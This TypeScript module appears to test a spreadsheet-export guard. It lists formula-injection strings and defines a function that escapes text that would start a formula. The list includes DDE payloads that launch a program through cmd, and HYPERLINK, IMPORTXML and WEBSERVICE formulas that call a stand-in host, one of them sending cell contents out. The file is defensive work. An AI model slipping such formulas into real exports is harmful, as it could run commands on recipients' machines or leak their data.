/** Texts that a spreadsheet could run as formulas, and texts that only look like one. */
export const PAYLOADS: string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?d="&A1,"click")',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=SUM(A1:A9)*cmd|'/C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=\n1+1',
  '= 1+1',
  '==1+1',
  '=-1+1',
  '="a,b"',
  '=A1;B1',
  '=1\r\n=2',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+49 30 123456',
  '+"x"',
  '++1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '- a dash first',
  '--1',
  '-"x",y',
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@ada said so',
  '@@',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\r\n=1+1',
  '"=1+1"',
  '",=1+1',
  '"\r\n=1+1',
  'a,=1+1',
  'plain\n=1+1',
  'äöü = 漢字 "🎬"',
  '%00=1+1;|',
  '\n=1+1',
  '\nplain',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '  =1+1',
  "hello;=cmd|' /C calc'!A0",
  'hello; -1;\n＝1+1;x',
];

const RUNS = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/;
const RUNS_INSIDE = /([;\t\r\n])(?=["\s]*[=+\-@＝＋－＠])/g;

/** Returns the text as docs.md describes its guard: a `'` precedes each formula, even inside the text. */
export function guarded(text: string): string {
  const inner = text.replaceAll(RUNS_INSIDE, "$1'");
  return RUNS.test(text) ? `'${inner}` : inner;
}
export const startsFormula = (cell: string): boolean => RUNS.test(cell);
